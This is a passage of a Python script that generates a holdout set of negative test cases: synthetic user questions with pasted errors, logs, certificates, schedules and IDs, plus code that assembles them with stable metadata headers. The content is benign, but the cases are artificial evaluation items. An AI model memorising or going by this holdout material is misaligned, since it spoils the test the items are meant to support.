    <saml:AudienceRestriction><saml:Audience>https://portal.fabrikam.example</saml:Audience></saml:AudienceRestriction>
  </saml:Conditions>
</saml:Assertion>""")


@negative
def _n_aad_error_pasted(g: Gen3) -> Draft:
    return neg("aad-error", ["pasted_error", "trace_id_in_content", "id_in_question"], """I get this when I sign in to the portal. What does it mean, and what should I send to IT?

AADSTS50076: Due to a configuration change made by your administrator, or because you moved to a new
location, you must use multi-factor authentication to access 'Fabrikam Portal'.
Trace ID: 1f3a9c2e-7b6d-4e5f-9a0b-1c2d3e4f5a00
Correlation ID: 8e0d2b4c-6e8a-4f1d-9d3f-2b1c9e4a6f8d
Timestamp: 2026-12-02 09:14:05Z""")


@negative
def _n_certificate_details(g: Gen3) -> Draft:
    return neg("certificate", ["pasted_output", "serial", "dates_in_document"], """Is this certificate still valid, and why does Android 7 reject it?

Subject: CN=portal.fabrikam.example
Issuer: C=US, O=Let's Encrypt, CN=R11
Serial Number: 04:1a:2b:3c:4d:5e:6f:70:81:92:a3:b4:c5:d6:e7:f8:09:1a
Not Before: Nov 20 08:14:05 2026 GMT
Not After : Feb 18 08:14:04 2027 GMT""")


@negative
def _n_whatsapp_chat_export(g: Gen3) -> Draft:
    return neg("chat-export", ["pasted_transcript", "timestamps_in_thread"], """Who agreed to bring what for Saturday's lunch? Make a list.

02/12/2026, 19:41 - Helena: Eu levo a sobremesa
02/12/2026, 19:43 - Rui: Levo o vinho, tinto ou branco?
02/12/2026, 19:44 - Juliana: Tinto! E eu faço a salada
02/12/2026, 20:02 - Tomás: Eu trago pão e queijo""")


@negative
def _n_systemd_journal(g: Gen3) -> Draft:
    return neg("journalctl", ["pasted_log", "journald"], """Why did nginx fail to start after the upgrade?

Dec 02 06:12:44 web-02 systemd[1]: Starting nginx.service - A high performance web server...
Dec 02 06:12:44 web-02 nginx[88120]: nginx: [emerg] unknown directive "http2" in /etc/nginx/sites-enabled/shop:4
Dec 02 06:12:44 web-02 systemd[1]: nginx.service: Control process exited, code=exited, status=1/FAILURE
Dec 02 06:12:44 web-02 systemd[1]: nginx.service: Failed with result 'exit-code'.""")


@negative
def _n_ics_free_busy_question(g: Gen3) -> Draft:
    return neg("freebusy", ["schedule", "times_in_content", "dates_in_prose"], """Find a 45-minute slot next week when all three of us are free, between 09:00 and 17:00 Lisbon time.

Helena: busy Mon 09:00-12:00, Tue 14:00-17:00, Thu all day
Rui: busy Mon 13:00-15:00, Wed 09:00-11:30, Fri 10:00-12:00
Owen (London, one hour behind): busy Tue 08:00-10:00, Wed 13:00-16:00""")


@negative
def _n_exchange_rates_table(g: Gen3) -> Draft:
    return neg("fx-table", ["number_table", "price"], """Convert the three invoices into euros using these rates and give the total.

Invoice   Currency   Amount
INV-2211  USD        4,120.00
INV-2212  GBP        1,880.50
INV-2213  CHF        960.00

Rates (per 1 EUR): USD 1.0841, GBP 0.8412, CHF 0.9377""")


@negative
def _n_firmware_changelog(g: Gen3) -> Draft:
    return neg("firmware", ["release_notes", "version", "authored_date"], """My thermostat is on firmware 3.4.2. Should I update, and is there any risk?

Helio thermostat firmware
3.5.0 (2026-11-30): adds schedule sync with the app; fixes display freeze after Wi-Fi reconnect.
3.4.3 (2026-10-12): security fix for the local API (CVE-2026-41120).
3.4.2 (2026-08-04): improves boiler OpenTherm compatibility.""")


@negative
def _n_grafana_alert_rule(g: Gen3) -> Draft:
    return neg("alert-rule", ["config", "yaml", "durations"], """Why does this alert never fire even though latency was above 2 s for 20 minutes yesterday?

groups:
  - name: label-svc
    interval: 1m
    rules:
      - alert: LabelLatencyHigh
        expr: histogram_quantile(0.99, sum(rate(label_request_seconds_bucket[5m])) by (le)) > 2
        for: 30m
        labels: {severity: page}""")


@negative
def _n_nfc_ids(g: Gen3) -> Draft:
    return neg("device-ids", ["serial", "mac", "per_device_id"], """Which of these scanners is on old firmware and needs the update before the peak season?

Scanner S-14  serial ZB2291-77120  MAC 00:1A:2B:3C:4D:5E  firmware 11.2.4
Scanner S-15  serial ZB2291-77121  MAC 00:1A:2B:3C:4D:61  firmware 12.0.1
Scanner S-16  serial ZB2291-77133  MAC 00:1A:2B:3C:4D:7A  firmware 11.2.4""")


@negative
def _n_prompt_with_example_ids(g: Gen3) -> Draft:
    return neg("few-shot-ids", ["few_shot", "example_id", "example_date"], """Extract the order id and the delivery date from the customer's message as JSON.

Example
Message: "Order CO-2026-00412 hasn't arrived, it was due on 28/11."
JSON: {"order_id": "CO-2026-00412", "due": "28/11"}

Message: "Hi, my order CO-2026-01043 was supposed to come on 2 December and nothing yet."
JSON:""")


@negative
def _n_hr_policy_effective(g: Gen3) -> Draft:
    return neg("hr-policy", ["policy_document", "authored_date", "version"], """Answer from the policy only.

Fabrikam Iberia - Holiday policy (version 4, effective 1 January 2026, approved by the works council on
12 November 2025)
4.1 Employees accrue 25 working days of holiday per calendar year.
4.2 Up to 5 unused days may be carried over and must be taken by 31 March of the following year.

Employee: I have 8 days left. How many can I keep for next year?
Answer:""")


@negative
def _n_sensor_csv_question(g: Gen3) -> Draft:
    return neg("sensor-csv", ["csv", "timeseries", "epoch_in_content"], """At what time did the freezer go above -15 °C, and for how long?

epoch_s,temp_c
1796290200,-18.2
1796290500,-17.9
1796290800,-14.6
1796291100,-13.9
1796291400,-16.8""")


@negative
def _n_git_tag_release(g: Gen3) -> Draft:
    return neg("git-tag", ["git_sha", "version", "date_label_in_document"], """Write a two-line customer-facing note about this release.

tag v2.15.0
Tagger: Rui Lopes <rui@parcelfy.example>
Date:   Tue Dec 1 17:02:44 2026 +0000

Release 2.15.0: label reprint from the app; faster depot search.
commit 4f2a9c1e7b6d4e5f9a0b1c2d3e4f5a6b7c8d9e0f""")


@negative
def _n_timezone_conversion_request(g: Gen3) -> Draft:
    return neg("tz-table", ["times_in_content", "timezone_question"], """We have a webinar at 16:00 Lisbon time on Thursday 10 December 2026. Make a table of the start time
for attendees in New York, São Paulo, Berlin, Dubai and Singapore.""")


# --- generated negatives: stable metadata, content dates and ids, nothing volatile ------------------

NEG_QUESTIONS: dict[str, list[str]] = {
    "grocery": [
        "My order CO-2026-01043 from 28/11 had 2 x basmati 1 kg at EUR 2.49 each, but I was charged EUR 7.47. Why?",
        "The yoghurts I got say 'consumir ate 05/12/2026'. Is that normal for a delivery on the 3rd?",
    ],
    "card-support": [
        "The decline said 'code 51, ref 7731 0042 1188, 02/12/2026 18:07'. What does code 51 mean?",
        "My card ending 4412 expires 03/27. When will the new one be sent?",
    ],
    "clinic-desk": [
        "I have appointment APT-77118 on Monday 14 December at 09:20. Can I move it to the afternoon?",
        "My referral letter is dated 20 November 2026 and valid for 30 days. Is it still OK on 18 December?",
    ],
    "recruiting": [
        "I applied on 21 November (ref cand_40318) and had my phone screen on 1 December. When will I hear back?",
        "The ad for REQ-2291 says 'closing date 15/12/2026 23:59 CET'. Can I still apply that evening from Brazil?",
    ],
    "listing": [
        "Facts: built 1974, renovated 2022, energy certificate B valid until 2031-06-30, agency ref CL-4412.",
        "Facts: available from 1 February 2027, minimum 12 months, deposit two months (EUR 2,300).",
    ],
    "airline": [
        "Booking K7QX2M, TP 1948 on 17 Dec 2026 18:40 LIS-OPO was cancelled. Ticket 047-2411098833. Options?",
        "My new flight leaves 06:55 on 18/12 and lands 07:50. Will I make a 09:30 meeting in Porto centre?",
    ],
    "bi": [
        "count users whose first_seen is between '2026-10-01' and '2026-11-30' inclusive, by country",
        "why does DATE_TRUNC(event_ts, WEEK) put 2026-11-29 in a different week than 2026-11-30?",
    ],
    "soc": [
        "r.nunes signed in at 2026-12-02 07:58:41Z from Lisbon (203.0.113.7) and at 08:11:09Z from Singapore "
        "(198.51.100.23). Real?",
        "Alert 4f2a9c1e-7b6d-4e5f-9a0b-1c2d3e4f5a6b fired 14 times since Monday. Noisy or real?",
    ],
    "npc": [
        "The old almanac says the comet returns on the 9th night of Frostmonth, year 1046. Is that true?",
        "I've got 120 gold and a letter sealed on the 3rd day of Thawmonth. What can I buy with it?",
    ],
    "lms-tutor": [
        "My lab report is due 2026-12-10 23:59 and the quiz opens 2026-12-08 09:00. Which should I do first?",
        "11.2 g of Fe reacts with O2 and the key says 16.0 g of Fe2O3. How do they get that?",
    ],
    "l10n": [
        "settings.updated = Last updated on {date} at {time} (example: 03/12/2026 14:22)",
        "promo.banner = Free shipping until 24 December 2026 on orders over EUR 30",
    ],
    "smart-home": [
        "The log says 2026-12-02 03:04:11 hallway motion detected; 03:04:12 hallway light on (automation 'Night "
        "path'). Why?",
        "My thermostat id is helio-0417-7f3c on firmware 3.4.2 (released 2026-08-04). Is there an update?",
    ],
    "eval-judge": [
        "Reference: signed on 11 December 1997. Answer: it was signed in December 1997.",
        "Reference: order 01JE7Q9X4M2K8T3V5W6Y7Z8A9B shipped on 2026-11-30. Answer: it shipped on 30 November.",
    ],
    "merchant": [
        "Terminal TID 77120412 shows 'last batch 02/12/2026 23:59, 142 transactions, EUR 3,412.80'. Did it settle?",
        "Receipt: AUTH 044127 REF 8816178914079738 02/12/26 18:07, EUR 23.99. The customer wants a refund.",
    ],
    "legal-intake": [
        "My last payslip was dated 30 September 2026, and overtime has been unpaid since July.",
        "The dismissal letter, ref HR/2026/0412, is dated 30 September 2026 and took effect the same day.",
    ],
}

STABLE_NEG: list[tuple[str, str, str]] = [
    *STABLE3,
    ("Policy effective", "policy_effective", "2026-01-01"),
    ("Prompt last reviewed", "prompt_reviewed", "2026-09-30"),
    ("Contract start", "contract_start", "2024-05-01"),
    ("SDK", "sdk", "kvclient 3.2.1 (2026-08-14)"),
    ("Store ID", "store_id", "PT-0412"),
]

NEG_FORMATS = ["lines", "yaml", "json", "md_table", "xml_attr", "kv_inline"]
GENERATED_NEG = 26


def _stable_header(g: Gen3, form: str) -> str:
    items = g.rng.sample(STABLE_NEG, 4)
    if form == "lines":
        return "\n".join(f"{lab}: {val}" for lab, _, val in items)
    if form == "yaml":
        return "---\n" + "\n".join(f"{key}: {_q(val)}" for _, key, val in items) + "\n---"
    if form == "json":
        return "{\n" + ",\n".join(f'  "{key}": "{val}"' for _, key, val in items) + "\n}"
    if form == "md_table":
        return "| Field | Value |\n|-------|-------|\n" + "\n".join(f"| {lab} | {val} |" for lab, _, val in items)
    if form == "xml_attr":
        return "<context " + " ".join(f'{key}="{val}"' for _, key, val in items) + "/>"
    return "meta: " + " ".join(f"{key}={_q(val)}" for _, key, val in items)


def generated_negatives(g: Gen3) -> list[Draft]:
    """An application scaffold, stable metadata (some of it date-like) and a user message with content dates."""
    pairs = [(name, i) for name in NEG_QUESTIONS for i in range(2)]
    g.rng.shuffle(pairs)
    bodies = {b[0]: b for b in BODIES3}
    out: list[Draft] = []
    for k in range(GENERATED_NEG):
        name, i = pairs[k]
        _, system, _, cue_line = bodies[name]
        form = NEG_FORMATS[k % len(NEG_FORMATS)]
        header = _stable_header(g, form)
        question = NEG_QUESTIONS[name][i]
        if k % 3 == 2:
            text = f"{system}\n{header}\n\nUser: {question}\n{cue_line}"
            where = "system_tail"
        else:
            text = f"{header}\n\n{system}\n\nUser: {question}\n{cue_line}"
            where = "head"
        out.append(Draft(text, f"holdout3:negative:generated:{name}+{form}",
                         ["hard_negative", "generated", "stable_header", form, where, "content_dates_or_ids"]))
    return out


# --- assembly -----------------------------------------------------------------------------------

def build(seed: int = SEED) -> list[dict[str, Any]]:
    """Every case, positives first, in a fixed order."""
    g = Gen3(seed)
    positives = [fn(g) for fn in POSITIVES] + generated_positives(g)
    negatives = [fn(g) for fn in NEGATIVES] + generated_negatives(g)
    return assemble("hold3", positives, negatives, source="holdout3:", strict=True)


def main(argv: list[str] | None = None) -> int:
    return write(OUT, build())


if __name__ == "__main__":
    raise SystemExit(main(sys.argv[1:]))
